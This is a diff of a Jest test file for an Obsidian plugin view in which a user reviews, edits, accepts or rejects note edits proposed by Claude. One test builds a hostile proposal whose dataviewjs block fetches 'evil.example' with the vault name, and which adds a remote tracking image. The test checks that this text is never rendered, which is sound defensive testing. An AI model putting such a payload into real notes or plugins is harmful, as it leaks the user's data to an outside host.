@@ -1,6 +1,5 @@
 import type { WorkspaceLeaf as RealLeaf } from "obsidian";
 import type { AcceptOutcome, PendingReview } from "../../src/ide/diff-review/review-types";
-import * as wordDiff from "../../src/shared/word-diff";
 import { DIFF_VIEW_TYPE, DiffReviewView, type DiffReviewActions } from "../../src/obsidian/diff-view";
 import { App, FakeElement, MarkdownRenderer, notices, WorkspaceLeaf } from "../__mocks__/obsidian";
 import { buildWorkspace, closeWorkspace, markdownViewOf, settle } from "./harness/workspace-builder";
@@ -13,6 +12,7 @@ const review: PendingReview = {
 	proposedText: "# Title\n\nThe quick red fox.\n",
 	isNewFile: false,
 	sessionId: 1,
+	proposer: { client: "claude-code", session: 1, tool: "openDiff" },
 	since: new Date(0),
 };
 
@@ -52,45 +52,117 @@ function openView(shown: PendingReview = review) {
 }
 
 afterEach(() => {
-	jest.useRealTimers();
 	jest.restoreAllMocks();
 });
 
+const texts = (elements: FakeElement[]): string[] => elements.map((el) => el.textContent);
+
+/** Types `text` into the proposal, in place (Edit, then the text box). */
+function editProposal(one: (cls: string) => FakeElement, text: string): void {
+	if (one("ccb-review-edit").text === "Edit") one("ccb-review-edit").dispatch("click");
+	const box = one("ccb-review-editor");
+	box.value = text;
+	box.dispatch("input");
+}
+
 describe("DiffReviewView", () => {
-	it("shows the note against the proposal with only the changed words highlighted", () => {
+	it("shows the proposal as suggestions in the note's own text: the old word struck, the new one underlined, inline", () => {
 		const { root, view } = openView();
 		expect(view.getDisplayText()).toBe("Review: note.md");
 		expect(view.getState()).toEqual({ tabName: review.tabName, path: "Notes/note.md" });
-		expect(root.findAll("ccb-diff-word-removed").map((el) => el.text)).toEqual(["brown"]);
-		expect(root.findAll("ccb-diff-word-added").map((el) => el.text)).toEqual(["red"]);
-		expect(root.findAll("ccb-diff-removed")).toHaveLength(1);
-		expect(root.findAll("ccb-diff-added")).toHaveLength(1);
-		expect(root.findAll("ccb-diff-unified")).toHaveLength(1);
+		expect(texts(root.findAll("ccb-suggest-removed"))).toEqual(["brown"]);
+		expect(texts(root.findAll("ccb-suggest-added"))).toEqual(["red"]);
+		expect(root.findAll("ccb-suggest")[0]?.textContent).toContain("The quick brownred✓✕ fox.");
+		expect(root.findAll("ccb-suggest-removed")[0]?.tag).toBe("del");
+		expect(root.findAll("ccb-suggest-added")[0]?.tag).toBe("ins");
+		// Not the line diff: no line numbers.
+		expect(root.findAll("ccb-diff-number")).toEqual([]);
+		expect(root.findAll("ccb-review-tab").map((tab) => [tab.text, tab.hasClass("is-active")])).toEqual([
+			["Suggestions", true],
+			["Line diff", false],
+		]);
 	});
 
-	it("switches to side by side, and to the proposal as it will read", () => {
+	it("the decision bar names the proposer (client, session, tool), the note once and the time, and counts the changes", () => {
+		const { root, one } = openView({ ...review, since: new Date("2026-11-27T09:05:00Z"), proposedText: "# Title!\n\nThe quick red fox.\n" });
+		const bar = one("ccb-review-bar");
+		expect(one("ccb-review-proposer").text).toBe("claude-code");
+		expect(one("ccb-review-session").text).toBe("session 1");
+		expect(one("ccb-review-tool").text).toBe("openDiff");
+		expect(one("ccb-review-time").attributes.get("datetime")).toBe("2026-11-27T09:05:00.000Z");
+		expect(one("ccb-review-summary").text).toBe("2 changes");
+		expect(bar.findAll("ccb-review-accept")).toHaveLength(1);
+		expect(root.textContent.split("Notes/note.md")).toHaveLength(2);
+		const vaultTool = openView({ ...review, proposer: { client: "Claude's vault tools", tool: "edit_note" } });
+		expect(vaultTool.one("ccb-review-proposer").text).toBe("Claude's vault tools");
+		expect(vaultTool.root.findAll("ccb-review-session")).toEqual([]);
+		expect(vaultTool.one("ccb-review-tool").text).toBe("edit_note");
+		expect(vaultTool.one("ccb-review-summary").text).toBe("1 change");
+	});
+
+	it("Accept all is the call to action; Reject is a plain secondary button", () => {
+		const { one } = openView();
+		expect(one("ccb-review-accept").text).toBe("Accept all");
+		expect(one("ccb-review-accept").hasClass("mod-cta")).toBe(true);
+		expect([...one("ccb-review-reject").classes]).toEqual(["ccb-review-reject"]);
+	});
+
+	it("accepts or rejects each change on its own, and sends back the note as decided", () => {
+		const proposedText = "# Title, renamed\n\nThe quick red fox.\n";
+		const { actions, root, one } = openView({ ...review, proposedText });
+		expect(root.findAll("ccb-suggest-change")).toHaveLength(2);
+		root.findAll("ccb-suggest-reject")[0]?.dispatch("click");
+		expect(one("ccb-review-summary").text).toBe("2 changes, 1 rejected");
+		expect(one("ccb-review-accept").text).toBe("Accept 1 of 2");
+		root.findAll("ccb-suggest-accept")[0]?.dispatch("click");
+		expect(root.findAll("ccb-suggest-change").map((change) => [...change.classes].filter((cls) => cls.startsWith("is-")))).toEqual([["is-rejected"], ["is-accepted"]]);
+		one("ccb-review-accept").dispatch("click");
+		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify("# Title\n\nThe quick red fox.\n")}`]);
+	});
+
+	it("an undone decision counts as undecided again", () => {
+		const { actions, root, one } = openView();
+		one("ccb-suggest-reject").dispatch("click");
+		one("ccb-suggest-undo").dispatch("click");
+		expect(root.findAll("ccb-suggest-reject")).toHaveLength(1);
+		one("ccb-review-accept").dispatch("click");
+		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(review.proposedText)}`]);
+	});
+
+	it("folds long unchanged stretches into a button that shows them", () => {
+		const lines = Array.from({ length: 20 }, (_, index) => `Line ${index + 1}.`);
+		const before = `${lines.join("\n")}\n`;
+		const { root, one } = openView({ ...review, originalText: before, proposedText: before.replace("Line 10.", "Line ten.").replace("Line 20.", "Line twenty.") });
+		expect(texts(root.findAll("ccb-suggest-fold"))).toEqual(["8 unchanged lines", "7 unchanged lines"]);
+		expect(root.textContent).not.toContain("Line 4.");
+		one("ccb-suggest-fold").dispatch("click");
+		expect(texts(root.findAll("ccb-suggest-fold"))).toEqual(["7 unchanged lines"]);
+		expect(root.textContent).toContain("Line 4.");
+	});
+
+	it("keeps the monospace line diff on a second tab, side by side with Before and After", () => {
 		const { root, one } = openView();
+		expect(root.findAll("ccb-review-layout")).toEqual([]);
+		root.findAll("ccb-review-tab")[1]?.dispatch("click");
+		expect(root.findAll("ccb-diff-unified")).toHaveLength(1);
+		expect(texts(root.findAll("ccb-diff-word-removed"))).toEqual(["brown"]);
+		expect(texts(root.findAll("ccb-diff-word-added"))).toEqual(["red"]);
 		one("ccb-review-layout").dispatch("click");
 		expect(root.findAll("ccb-diff-side-by-side")).toHaveLength(1);
-		expect(root.findAll("ccb-diff-row").length).toBeGreaterThan(0);
-		one("ccb-review-preview").dispatch("click");
-		expect(one("ccb-review-proposal").textContent).toBe("# Title\n\nThe quick red fox.\n");
-		expect(root.findAll("ccb-diff-word-added").map((el) => el.text)).toEqual(["red"]);
-		expect(root.findAll("ccb-diff-word-removed")).toEqual([]);
-		expect(one("ccb-review-preview").text).toBe("Show changes");
+		expect(texts(root.findAll("ccb-diff-label"))).toEqual(["Before", "After"]);
+		root.findAll("ccb-review-tab")[0]?.dispatch("click");
+		expect(root.findAll("ccb-suggest")).toHaveLength(1);
 	});
 
 	it("never hands unaccepted text to MarkdownRenderer (no plugin code blocks, no remote images)", () => {
 		const render = jest.spyOn(MarkdownRenderer, "render");
 		const hostile = "# Title\n\n```dataviewjs\nfetch('https://evil.example/?' + app.vault.getName())\n```\n\n![](https://evil.example/pixel.png)\n";
 		const { root, one } = openView({ ...review, proposedText: hostile });
-		one("ccb-review-preview").dispatch("click");
+		expect(root.textContent).toContain("![](https://evil.example/pixel.png)");
+		root.findAll("ccb-review-tab")[1]?.dispatch("click");
 		one("ccb-review-layout").dispatch("click");
-		const box = one("ccb-review-textarea");
-		box.value = `${hostile}more\n`;
-		box.dispatch("input");
-		one("ccb-review-preview").dispatch("click");
-		one("ccb-review-preview").dispatch("click");
+		editProposal(one, `${hostile}more\n`);
+		one("ccb-review-edit").dispatch("click");
 		expect(render).not.toHaveBeenCalled();
 		// The proposal is shown as text: the code block and the image link are visible, not run or loaded.
 		expect(root.textContent).toContain("![](https://evil.example/pixel.png)");
@@ -111,35 +183,35 @@ describe("DiffReviewView", () => {
 		expect(notices).toEqual(["Not accepted: Notes/note.md was not saved: its path now leads out of the vault."]);
 	});
 
-	it("accepts the text as edited in the proposal box, and redraws the diff once typing pauses", () => {
-		jest.useFakeTimers();
-		const diffs = jest.spyOn(wordDiff, "computeLineDiff");
+	it("edits the proposal in place: the user's words are marked You, apart from Claude's, and sent back exactly", () => {
 		const { actions, one, root } = openView();
-		diffs.mockClear();
-		const box = one("ccb-review-textarea");
-		for (const text of ["# Title\n\nThe quick g fox.\n", "# Title\n\nThe quick gr fox.\n", "# Title\n\nThe quick grey fox.\n"]) {
-			box.value = text;
-			box.dispatch("input");
-			jest.advanceTimersByTime(100);
-		}
-		expect(diffs).not.toHaveBeenCalled();
-		expect(root.findAll("ccb-diff-word-added").map((el) => el.text)).toEqual(["red"]);
-		expect(one("ccb-review-accept").text).toBe("Accept edited");
-		jest.advanceTimersByTime(300);
-		expect(diffs).toHaveBeenCalledTimes(1);
-		expect(root.findAll("ccb-diff-word-added").map((el) => el.text)).toEqual(["grey"]);
+		one("ccb-review-edit").dispatch("click");
+		expect(one("ccb-review-editor").value).toBe(review.proposedText);
+		expect(one("ccb-review-edit").text).toBe("Done editing");
+		const edited = "# Title\r\n\r\nThe quick red fox sat down.\n";
+		editProposal(one, edited);
+		expect(one("ccb-review-accept").text).toBe("Accept with my edits");
+		expect(one("ccb-review-summary").text).toBe("1 change, edited by you");
+		one("ccb-review-edit").dispatch("click");
+		expect(texts(root.findAll("ccb-suggest-you")).filter((text) => text !== "You")).toEqual(expect.arrayContaining([" sat down"]));
+		expect(root.findAll("ccb-suggest-added").map((el) => el.textContent)).toContain("red");
+		expect(root.findAll("ccb-suggest-you").every((el) => !el.hasClass("ccb-suggest-added") || el.tag === "del")).toBe(true);
 		one("ccb-review-accept").dispatch("click");
-		expect(actions.calls).toEqual(['accept 1 "# Title\\n\\nThe quick grey fox.\\n"']);
+		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(edited)}`]);
 	});
 
-	it("accepts the latest edit even while the redraw is still waiting", () => {
-		jest.useFakeTimers();
-		const { actions, one } = openView();
-		const box = one("ccb-review-textarea");
-		box.value = "typed just now\n";
-		box.dispatch("input");
-		one("ccb-review-accept").dispatch("click");
-		expect(actions.calls).toEqual(['accept 1 "typed just now\\n"']);
+	it("accepts the latest edit even while the user is still typing, and Discard my edits goes back to Claude's proposal", () => {
+		const typing = openView();
+		editProposal(typing.one, "typed just now\n");
+		typing.one("ccb-review-accept").dispatch("click");
+		expect(typing.actions.calls).toEqual(['accept 1 "typed just now\\n"']);
+		const discarding = openView();
+		editProposal(discarding.one, "typed\n");
+		discarding.one("ccb-review-edit").dispatch("click");
+		discarding.one("ccb-review-discard").dispatch("click");
+		expect(discarding.one("ccb-review-accept").text).toBe("Accept all");
+		discarding.one("ccb-review-accept").dispatch("click");
+		expect(discarding.actions.calls).toEqual([`accept 1 ${JSON.stringify(review.proposedText)}`]);
 	});
 
 	it("rejects with the button, and closing the view counts as a rejection", async () => {
@@ -157,7 +229,14 @@ describe("DiffReviewView", () => {
 		expect(created.root.textContent).toContain("This note does not exist yet: everything shown is new.");
 		const emptied = openView({ ...review, proposedText: "" });
 		expect(emptied.root.textContent).toContain("The proposal removes everything in this note. Accepting leaves the note empty.");
-		expect(emptied.root.findAll("ccb-diff-removed")).toHaveLength(3);
+		expect(texts(emptied.root.findAll("ccb-suggest-removed"))).toEqual([review.originalText]);
+	});
+
+	it("a proposal that cannot be applied shows why and offers only Reject", () => {
+		const { root, one } = openView({ ...review, cannotApply: "A note the vault tools cannot show is already at this path." });
+		expect(one("ccb-review-cannot-apply").text).toBe("A note the vault tools cannot show is already at this path.");
+		expect(root.findAll("ccb-review-accept")).toEqual([]);
+		expect(root.findAll("ccb-review-edit")).toEqual([]);
 	});
 
 	it("names the reviewed note in its tab from the view state alone: before the review is attached and after a restart", async () => {
@@ -183,7 +262,7 @@ describe("DiffReviewView while the user edits the note under review", () => {
 		const { app } = built;
 		app.viewRegistry.set(DIFF_VIEW_TYPE, (leaf) => new DiffReviewView(leaf as unknown as RealLeaf) as never);
 		const leaf = app.workspace.getLeaf("tab");
-		await leaf.setViewState({ type: DIFF_VIEW_TYPE, state: { tabName: review.tabName, path: notePath } });
+		await leaf.setViewState({ type: DIFF_VIEW_TYPE, active: true, state: { tabName: review.tabName, path: notePath } });
 		const view = leaf.view;
 		if (!(view instanceof DiffReviewView)) throw new Error("no review view");
 		const actions = new RecordingActions();
@@ -194,23 +273,27 @@ describe("DiffReviewView while the user edits the note under review", () => {
 		});
 		const noteLeaf = built.leaves[0];
 		if (!noteLeaf) throw new Error("no note tab");
-		return { app, view, actions, note: markdownViewOf(noteLeaf), ...finder(view) };
+		return { app, view, actions, noteLeaf, reviewLeaf: leaf, note: markdownViewOf(noteLeaf), ...finder(view) };
 	}
 
-	it("typing in the open note after the proposal arrived blocks Accept until the user compares against the note now", async () => {
+	it("typing in the open note after the proposal arrived disables Accept, with the reason, until the user reviews again", async () => {
 		const { app, actions, note, one, root } = await reviewWithNoteOpen();
+		expect(one("ccb-review-accept").attributes.has("disabled")).toBe(false);
 		note.type("# Title\n\nThe quick brown fox.\nMy new line.\n");
 		await settle(app);
-		expect(root.textContent).toContain("This note changed after Claude proposed the edit.");
+		expect(one("ccb-review-accept").attributes.has("disabled")).toBe(true);
+		expect(one("ccb-review-hold").textContent).toContain("Accept is off: the note changed after Claude proposed this edit.");
 		notices.length = 0;
 		one("ccb-review-accept").dispatch("click");
+		app.pressKey(["Mod"], "Enter");
 		expect(actions.calls).toEqual([]);
-		expect(notices).toEqual([expect.stringContaining("The note changed after Claude proposed this edit")]);
-		one("ccb-review-rebase").dispatch("click");
+		expect(notices).toHaveLength(2);
+		one("ccb-review-again").dispatch("click");
 		await settle(app);
-		// The diff now shows what Accept does to the note as it is: the user's new line would go.
-		expect(root.findAll("ccb-diff-removed").map((el) => el.textContent)).toContain("4−My new line.");
-		expect(root.textContent).not.toContain("This note changed after Claude proposed the edit.");
+		expect(one("ccb-review-accept").attributes.has("disabled")).toBe(false);
+		expect(root.findAll("ccb-review-hold")).toEqual([]);
+		// The suggestions now show what Accept does to the note as it is: the user's new line would go.
+		expect(texts(root.findAll("ccb-suggest-removed")).join("")).toContain("My new line.");
 		one("ccb-review-accept").dispatch("click");
 		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(review.proposedText)}`]);
 	});
@@ -219,18 +302,41 @@ describe("DiffReviewView while the user edits the note under review", () => {
 		const { app, root } = await reviewWithNoteOpen();
 		app.vault.writeExternally(notePath, "Rewritten elsewhere.\n");
 		await settle(app);
-		expect(root.textContent).toContain("This note changed after Claude proposed the edit.");
+		expect(root.findAll("ccb-review-hold")).toHaveLength(1);
 		app.vault.writeExternally(notePath, review.originalText.replace(/\n/g, "\r\n"));
 		await settle(app);
-		expect(root.textContent).not.toContain("This note changed after Claude proposed the edit.");
+		expect(root.findAll("ccb-review-hold")).toEqual([]);
 	});
 
 	it("edits to other notes are not the review's business", async () => {
 		const { app, actions, one, root } = await reviewWithNoteOpen();
 		app.vault.writeExternally("Other.md", "unrelated\n");
 		await settle(app);
-		expect(root.textContent).not.toContain("This note changed");
+		expect(root.findAll("ccb-review-hold")).toEqual([]);
 		one("ccb-review-accept").dispatch("click");
 		expect(actions.calls).toHaveLength(1);
+	});
+
+	it("Mod+Enter accepts and Escape rejects while the review has focus, not while the note has", async () => {
+		const { app, actions, noteLeaf, reviewLeaf } = await reviewWithNoteOpen();
+		app.workspace.setActiveLeaf(noteLeaf as never);
+		app.pressKey(["Mod"], "Enter");
+		app.pressKey([], "Escape");
+		expect(actions.calls).toEqual([]);
+		app.workspace.setActiveLeaf(reviewLeaf as never);
+		app.pressKey(["Mod"], "Enter");
+		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(review.proposedText)}`]);
+		app.pressKey([], "Escape");
+		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(review.proposedText)}`, "reject 1"]);
+	});
+
+	it("Escape while typing in the proposal ends the typing, it does not reject", async () => {
+		const { app, actions, one } = await reviewWithNoteOpen();
+		editProposal(one, "mine\n");
+		app.pressKey([], "Escape");
+		expect(actions.calls).toEqual([]);
+		expect(one("ccb-review-edit").text).toBe("Edit");
+		app.pressKey(["Mod"], "Enter");
+		expect(actions.calls).toEqual(['accept 1 "mine\\n"']);
 	});
 });
